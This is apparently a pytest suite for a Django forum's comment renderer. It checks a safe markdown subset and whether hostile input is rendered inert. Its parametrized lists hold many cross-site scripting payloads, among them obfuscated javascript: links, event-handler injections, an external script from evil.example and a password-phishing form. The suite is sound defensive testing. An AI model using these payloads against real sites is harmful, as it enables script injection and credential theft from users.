"""Comment formatting, posted through the form and read on the post page."""

import re

import pytest
from bs4 import BeautifulSoup

from forum.models import Comment
from tests.factories import comment_data, make_comment, make_post
from tests.html import soup

pytestmark = pytest.mark.django_db

URL = "/comments/post/"
COMMENT_TAGS = {"p", "br", "a", "em", "strong", "blockquote", "code"}
# Browsers drop tabs and newlines anywhere in a URL, and leading controls/spaces.
_URL_IGNORED = re.compile(r"[\t\n\r]")


@pytest.fixture(autouse=True)
def _trusting(settings, relaxed_posting, guests_trusted):
    """Every comment here is approved at once, so any reader sees it."""
    settings.COMMENT_MAX_LINKS = 0


def publish(client, text: str, **overrides) -> tuple[Comment, BeautifulSoup]:
    """Post `text` through the form; return the comment and the page showing it."""
    post = make_post()
    response = client.post(URL, comment_data(post, comment=text, **overrides))
    assert response.status_code == 302
    comment = Comment.objects.get()
    page = soup(client.get(post.get_absolute_url()))
    return comment, page


def content(page, comment):
    return page.select_one(f"#comment-{comment.pk} .comment-content")


def scheme(url: str) -> str:
    """The scheme a browser would see in `url` ("" for a relative URL)."""
    cleaned = _URL_IGNORED.sub("", url).lstrip("".join(map(chr, range(33))))
    match = re.match(r"([a-z][a-z0-9+.-]*):", cleaned, re.IGNORECASE)
    return match.group(1).lower() if match else ""


def assert_inert(page, comment):
    """Nothing in the comment can run, load, restyle or post anything."""
    li = page.select_one(f"#comment-{comment.pk}")
    assert {tag.name for tag in content(page, comment).find_all()} <= COMMENT_TAGS
    for tag in li.find_all():
        assert not [name for name in tag.attrs if name.lower().startswith("on")]
        assert "style" not in tag.attrs
        for attr in ("href", "src", "action", "formaction", "xlink:href"):
            if tag.has_attr(attr):
                assert scheme(tag[attr]) in {"", "http", "https", "mailto"}
    scripts = page.find_all("script")
    assert {s.get("src", "") for s in scripts} == {
        "/i18n/en/catalog.js",
        "/static/js/comment-reply.js",
        "/static/js/thread.js",
        "/static/js/live.js",
        "/static/js/votes.js",
    }
    assert not page.find_all(["iframe", "object", "embed", "svg", "math", "style"])
    # The comment form; the header also holds the site search form, the
    # footer the language switcher, each comment its vote form (our markup,
    # outside the comment's text).
    forms = "form:not(.search-form, .language-form, .comment-vote)"
    assert len(page.select(forms)) == 1
    assert not content(page, comment).find_all("form")


# --- The safe subset ----------------------------------------------------------


def test_blank_lines_make_paragraphs_and_newlines_make_breaks(client):
    comment, page = publish(client, "First line\nsecond line\n\nNew paragraph")
    html = content(page, comment)
    paragraphs = html.find_all("p")
    assert [p.get_text() for p in paragraphs] == [
        "First line\nsecond line",
        "New paragraph",
    ]
    assert paragraphs[0].find("br")


def test_bare_urls_become_nofollow_ugc_noopener_links(client):
    comment, page = publish(client, "See https://example.com/a?b=1&c=2 and www.x.org")
    links = content(page, comment).find_all("a")
    assert [a["href"] for a in links] == [
        "https://example.com/a?b=1&c=2",
        "http://www.x.org",
    ]
    for link in links:
        assert link["rel"] == ["nofollow", "ugc", "noopener"]


def test_markdown_links_get_the_same_rel(client):
    comment, page = publish(client, "[the docs](https://docs.example.com/)")
    link = content(page, comment).find("a")
    assert (link["href"], link.get_text()) == ("https://docs.example.com/", "the docs")
    assert link["rel"] == ["nofollow", "ugc", "noopener"]


def test_emphasis_and_strong(client):
    comment, page = publish(client, "*soft* and **loud** and _also soft_")
    html = content(page, comment)
    assert [em.get_text() for em in html.find_all("em")] == ["soft", "also soft"]
    assert html.find("strong").get_text() == "loud"


def test_a_line_starting_with_a_chevron_quotes(client):
    comment, page = publish(client, "> You said this\n> and that\n\nI disagree.")
    html = content(page, comment)
    assert html.select_one("blockquote > p").get_text() == "You said this\nand that"
    assert html.find_all("p")[-1].get_text() == "I disagree."
    assert html.find_all("p")[-1].parent is html


def test_backticks_make_inline_code_showing_html_as_text(client):
    comment, page = publish(client, "Use `<b>bold</b>` here")
    code = content(page, comment).find("code")
    assert code.get_text() == "<b>bold</b>"
    assert not code.find("b")


@pytest.mark.parametrize(
    "text", ["# Heading", "- item", "1. item", "![alt](https://i.example.com/x.png)"]
)
def test_markdown_outside_the_subset_stays_plain_text(client, text):
    comment, page = publish(client, text)
    html = content(page, comment)
    assert not html.find_all(["h1", "ul", "ol", "li", "img"])
    assert html.get_text().strip().startswith(text[0])


def test_source_and_rendered_html_are_stored(client):
    comment, _ = publish(client, "Hello *world*")
    assert comment.body == "Hello *world*"
    assert comment.body_html == "<p>Hello <em>world</em></p>"


def test_reading_shows_the_stored_html_without_rendering_again(client):
    post = make_post()
    comment = make_comment(post=post, body="*old*")
    Comment.objects.filter(pk=comment.pk).update(body_html="<p>stored copy</p>")
    page = soup(client.get(post.get_absolute_url()))
    assert content(page, comment).get_text() == "stored copy"


# --- Hostile input: stored as typed, rendered inert ----------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<p onmouseover="alert(1)">hover</p>',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0">cover</div>',
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<!--<script>alert(1)</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '[x](https://ok.example.com "title" onclick=alert(1))',
    '[x](https://ok.example.com/"onmouseover="alert(1))',
    "https://ok.example.com/<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "*<img src=x onerror=alert(1)>*",
    "\u202eevil\u202c \u200b\u200c\u200d\ufeff",
    "😀👩\u200d👩\u200d👧 e\u0301 Z\u0351\u0352\u0353\u0354",
    "line\u2028separator\u2029paragraph\u0085next line",
    "javascript:alert(1)",
    "mailto:someone@example.com?subject=<script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_comment_is_stored_as_typed_and_rendered_inert(client, text):
    comment, page = publish(client, text)
    assert comment.body == text.strip()
    assert_inert(page, comment)


@pytest.mark.parametrize(
    "text",
    [
        ">" * 10_000,
        "[" * 10_000,
        "*a" * 5_000,
        "<" * 10_000,
        "&#" * 5_000,
        "`" * 10_000,
        "[a](" * 2_500,
        "https://a.example.com " * 454,
        "😀" * 10_000,
        "e" + "\u0301" * 9_999,
    ],
)
def test_enormous_but_allowed_comment_is_stored_and_rendered_inert(
    client, settings, text
):
    settings.COMMENT_MAX_LENGTH = 10_000
    comment, page = publish(client, text)
    assert comment.body == text.strip()
    assert_inert(page, comment)


def test_odd_unicode_is_kept_exactly(client):
    text = "\u202eevil\u202c \u200b 😀👩‍👩‍👧 e\u0301 Z\u0351"
    comment, page = publish(client, text)
    assert comment.body == text
    assert content(page, comment).get_text().strip() == text


@pytest.mark.parametrize(
    "name",
    # A right-to-left override in a name is refused (tests/test_author_names.py).
    ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "Ann &amp; <b>Bo"],
)
def test_hostile_author_name_is_shown_as_text(client, name):
    comment, page = publish(client, "Hi", author=name)
    assert page.select_one(f"#comment-{comment.pk} .fn").get_text() == name
    assert page.select_one(".comment-reply-link")["data-replyto"] == f"Reply to {name}"
    assert_inert(page, comment)


def test_hostile_author_name_is_text_in_the_reply_heading(client):
    post = make_post()
    name = '<script>alert(1)</script>"'
    comment = make_comment(post=post, author_name=name)
    url = f"{post.get_absolute_url()}?replytocom={comment.pk}"
    page = soup(client.get(url))
    assert page.select_one("#reply-title").get_text(" ", strip=True) == (
        f"Reply to {name} Cancel reply"
    )
    assert_inert(page, comment)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        " javascript:alert(1)",
    ],
)
def test_website_with_a_dangerous_scheme_is_refused(client, url):
    post = make_post()
    response = client.post(URL, comment_data(post, url=url))
    assert response.status_code == 400
    assert not Comment.objects.exists()


def test_website_with_quotes_stays_inside_its_attribute(client):
    url = 'https://x.example.com/"onmouseover="alert(1)'
    comment, page = publish(client, "Hi", url=url)
    link = page.select_one(f"#comment-{comment.pk} a.url")
    assert link["href"] == url
    assert_inert(page, comment)
